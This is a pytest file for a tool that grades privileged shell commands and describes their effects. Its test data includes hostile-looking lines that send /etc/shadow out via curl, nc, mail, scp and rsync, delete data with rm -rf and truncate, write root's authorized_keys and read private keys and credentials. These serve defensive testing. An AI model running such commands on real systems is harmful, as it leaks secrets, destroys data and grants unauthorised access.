# SPDX-License-Identifier: Apache-2.0
"""What the page says of a command: the worst first and once, with what is done with what is read, and never its words again."""

from __future__ import annotations

import shlex
from dataclasses import replace

import pytest

from jitd.core.edit import SUDOEDIT, Edit
from jitd.core.grade import NOTHING, Beside, Damage, Finding, Grade, damage, worst
from jitd_commands.grading import findings_of
from jitd_commands.programs import TABLE
from jitd_commands.programs.decision_table import DecisionTable
from jitd_commands.programs.grammar import Grammar
from tests.commands.graded import REQUESTER, Line, Looker, command_of, corpus


def found(line: str, account: str = "root", beside: Beside = NOTHING) -> tuple[Finding, ...]:
    run_as = next(one.run_as for one in corpus()[1] if one.run_as.user == account)
    made = Line(Grade.HARMLESS, None, line, False, tuple(shlex.split(line)), run_as, "/srv", True, ())
    asked = command_of(made)
    if made.words[0] == "sudoedit":
        asked = replace(asked, path=SUDOEDIT, edit=Edit(0, 0, 0, 0, 0, b"", b""))
    return findings_of(asked, Looker(made), requester=REQUESTER, beside=beside)


def told(line: str, account: str = "root") -> list[str]:
    return [one.what for one in found(line, account)]


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("curl -T /etc/shadow https://example.org/x", "reads /etc/shadow, and sends it to https://example.org/x"),
        ("curl -d @/etc/shadow https://example.org/x", "reads /etc/shadow, and sends it to https://example.org/x"),
        ("mail -a /etc/shadow alice@example.org", "reads /etc/shadow, and sends it to alice@example.org"),
        ("sh -c 'cat /etc/shadow | mail alice@example.org'", "reads /etc/shadow, and sends it to alice@example.org"),
        ("sh -c 'sendmail alice@example.org < /etc/shadow'", "reads /etc/shadow, and sends it to alice@example.org"),
        ("sh -c 'nc web2 80 < /etc/shadow'", "reads /etc/shadow, and sends it to web2 and 80"),
        ("scp /etc/shadow alice@example.org:/tmp", "reads /etc/shadow, and copies it to alice@example.org:/tmp"),
        ("rsync /etc/shadow alice@example.org:", "reads /etc/shadow, and copies it to alice@example.org:"),
    ],
)
def test_what_is_read_and_where_it_is_sent_is_one_sentence(line: str, said: str) -> None:
    assert [one for one in told(line) if "/etc/shadow" in one] == [said]


@pytest.mark.parametrize(
    ("line", "path", "said"),
    [
        ("perl -pi -e s/a/b/ /etc/passwd", "/etc/passwd", "changes /etc/passwd"),
        ("git -C /srv/app fetch --upload-pack=/home/alice/x", "/home/alice/x", "/home/alice/x belongs to alice, who asks"),
        ("sh -c '> /srv/data/list.csv'", "/srv/data/list.csv", "empties /srv/data/list.csv, which cannot be undone"),
    ],
)
def test_of_a_file_only_the_worst_is_said(line: str, path: str, said: str) -> None:
    assert [one for one in told(line) if path in one] == [said]


def test_the_worst_is_said_first() -> None:
    for line in corpus()[1]:
        all_ = findings_of(command_of(line), Looker(line), requester=REQUESTER)
        assert [one.order for one in all_] == sorted(one.order for one in all_), line.text


def test_no_sentence_repeats_the_words_of_the_command() -> None:
    """A file, a text for a shell and a statement of SQL may be named: they are one word."""
    repeated = []
    for line in corpus()[1]:
        words = line.words[1:]
        texts = {" ".join(words[at:]) for at in range(2) if len(words[at:]) > 3}
        for one in findings_of(command_of(line), Looker(line), requester=REQUESTER):
            if any(text in one.what for text in texts):
                repeated.append(f"{line.text}: {one.what}")
    assert not repeated, "\n".join(repeated)


def test_no_table_has_a_place_for_all_words() -> None:
    tables = [row.judge for row in TABLE.values() if isinstance(row.judge, DecisionTable)]
    grammars = [row.judge for row in TABLE.values() if isinstance(row.judge, Grammar)]
    lines = [line for table in tables for line in table.lines] + [rule.line for one in grammars for rule in one.rules]
    assert lines and not [line.sentence for line in lines if "{words}" in line.sentence]


@pytest.mark.parametrize(
    ("line", "said"),
    [
        (
            "psql -c \"DELETE FROM orders WHERE name = 'x y'\"",
            "psql runs SQL that changes the database: DELETE FROM orders WHERE name = 'x y'",
        ),
        (
            "psql -c \"DELETE FROM orders WHERE created < '2020-01-01'\"",
            "psql deletes all rows of orders where created < '2020-01-01', which cannot be undone",
        ),
        (
            "psql -c \"DROP TABLE \\\"o'1\\\"\"",
            'psql deletes the table "o\'1" with all its rows, which cannot be undone',
        ),
    ],
)  # fmt: skip
def test_the_literals_of_sql_are_shown(line: str, said: str) -> None:
    assert said in told(line, "postgres")


@pytest.mark.parametrize(
    ("line", "grade", "lost"),
    [
        ("mount -l", Grade.HARMLESS, Damage.NONE),
        ("sshd -T", Grade.HARMLESS, Damage.NONE),
        ("apachectl -t", Grade.HARMLESS, Damage.NONE),
        ("nano -R /etc/hosts", Grade.CHANGES, Damage.NONE),
        ("nano -R -s /bin/sh /etc/hosts", Grade.GIVES, Damage.NONE),
        ("nano -R /etc/sudoers", Grade.GIVES, Damage.NONE),
        ("rnano /srv/new", Grade.HARMLESS, Damage.NONE),
        ("nano -R", Grade.GIVES, Damage.NONE),
        ("perl -pi -e s/a/b/ /etc/hosts", Grade.CHANGES, Damage.NONE),
        ("perl -pi -e s/a/b/ /etc/sudoers", Grade.GIVES, Damage.NONE),
        ("iptables -I INPUT -p tcp --dport 22 -j DROP", Grade.CHANGES, Damage.STOPS),
        ("find /srv/data -delete", Grade.CHANGES, Damage.DESTROYS),
        ("rm -rf /srv/data", Grade.CHANGES, Damage.DESTROYS),
        ("truncate -s 0 /srv/data/app.db", Grade.CHANGES, Damage.DESTROYS),
        ("rm /srv/data/app.db", Grade.CHANGES, Damage.DESTROYS),
        ("truncate -s 0 /srv/app/old.txt", Grade.CHANGES, Damage.NONE),
        ("rm /srv/app/old.txt", Grade.CHANGES, Damage.NONE),
        ("find /srv/data -exec truncate -s 0 {} +", Grade.CHANGES, Damage.DESTROYS),
        ("virsh destroy web", Grade.CHANGES, Damage.DESTROYS),
        ("qm stop 104", Grade.CHANGES, Damage.DESTROYS),
        ("xl destroy web", Grade.CHANGES, Damage.DESTROYS),
        ("VBoxManage controlvm web poweroff", Grade.CHANGES, Damage.DESTROYS),
        ("virsh shutdown web", Grade.CHANGES, Damage.NONE),
        ("pct stop 104", Grade.CHANGES, Damage.NONE),
        ("docker kill web", Grade.CHANGES, Damage.NONE),
        ("kubectl scale --replicas=0 deploy/web", Grade.CHANGES, Damage.STOPS),
        ("kubectl delete deploy web", Grade.CHANGES, Damage.STOPS),
        ("sshd -T -C user=bob,addr=10.1.1.1", Grade.HARMLESS, Damage.NONE),
        ("sed -i s/noatime/relatime/ /etc/fstab", Grade.CHANGES, Damage.NONE),
        ("sed -i s/nosuid/suid/ /etc/fstab", Grade.GIVES, Damage.NONE),
        ("sed -i s/noexec/exec/ /etc/fstab", Grade.GIVES, Damage.NONE),
        ("sed -i 's/sdb1/sdb1 x/' /etc/fstab", Grade.GIVES, Damage.NONE),
        ("sh -c 'echo s > /proc/sysrq-trigger'", Grade.HARMLESS, Damage.NONE),
        ("sh -c 'echo o > /proc/sysrq-trigger'", Grade.CHANGES, Damage.STOPS),
        ("ssh -t db1 less /var/log/syslog", Grade.LEADS, Damage.NONE),
    ],
)
def test_what_looks_alike_weighs_alike(line: str, grade: Grade, lost: Damage) -> None:
    assert (worst(found(line)), damage(found(line))) == (grade, lost), told(line)


def test_the_crontab_of_another_account_is_not_roots() -> None:
    assert told("crontab -u www-data -e") == [
        "crontab starts an editor, which can start a shell",
        "crontab changes what www-data starts by itself",
    ]


def test_a_node_of_a_cluster_is_given_by_its_name() -> None:
    (one,) = found("kubectl debug node/web1 -it --image=alpine")
    assert one.grade is Grade.LEADS and one.what.startswith("kubectl gives root on the host web1 of the cluster")


HOMES = Beside(homes={"/srv/toor": "root", "/srv/jenkins": "jenkins", "/srv/redis": "redis"})


@pytest.mark.parametrize(
    ("line", "grade", "matters"),
    [
        ("tee /srv/toor/.ssh/authorized_keys", Grade.GIVES, "who may log in as root"),
        ("tee /srv/toor/.vimrc", Grade.GIVES, "root's own files"),
        ("cat /srv/toor/.ssh/id_ed25519", Grade.READS, "root's keys"),
        ("tee /srv/jenkins/.bashrc", Grade.GIVES, "who may act as this account"),
        ("tee /srv/jenkins/config.xml", Grade.GIVES, "who may act as this account"),
        ("cat /srv/jenkins/credentials.xml", Grade.READS, "secrets"),
        ("cat /srv/redis/dump.rdb", Grade.READS, "a database of other people's data"),
        ("sudoedit /srv/toor/.ssh/authorized_keys", Grade.GIVES, "who may log in as root"),
        ("sudoedit /srv/jenkins/.profile", Grade.GIVES, "who may act as this account"),
    ],
)
def test_the_homes_of_root_and_of_services_are_where_the_host_has_them(line: str, grade: Grade, matters: str) -> None:
    (one, *_) = found(line, beside=HOMES)
    assert (one.grade, one.matters) == (grade, matters)
    assert not [other for other in found(line) if other.matters == matters], "without the host's word, the path is any other"


@pytest.mark.parametrize("line", ["cat /srv/jenkins/log.txt", "ls /srv/toorx", "cat /srv/jenkinsx/credentials.xml"])
def test_what_is_no_file_of_an_account_stays_what_it_was(line: str) -> None:
    assert found(line, beside=HOMES) == found(line)


@pytest.mark.parametrize("line", ["bash /home/alice/x.sh /srv/data", "/home/alice/x.sh /srv/data"])
def test_a_text_to_which_the_run_is_bound_is_read_as_one_after_sh_c(line: str) -> None:
    """What the file says is told beside whose it is: the grade of what others can change stays."""
    texts = Beside(texts={"/home/alice/x.sh": '#!/bin/bash\nrm -rf "$1"\n'})
    lost = "deletes /srv/data, which cannot be undone"
    assert told(line)[:1] == ["/home/alice/x.sh belongs to alice, who asks"] and lost not in told(line)
    assert [one.what for one in found(line, beside=texts)][:2] == [told(line)[0], lost]


def test_a_text_of_another_language_is_not_read_as_a_shells() -> None:
    texts = Beside(texts={"/home/alice/x.sh": "#!/usr/bin/python3\nrm -rf /srv/data\n"})
    assert damage(found("/home/alice/x.sh", beside=texts)) is Damage.NONE
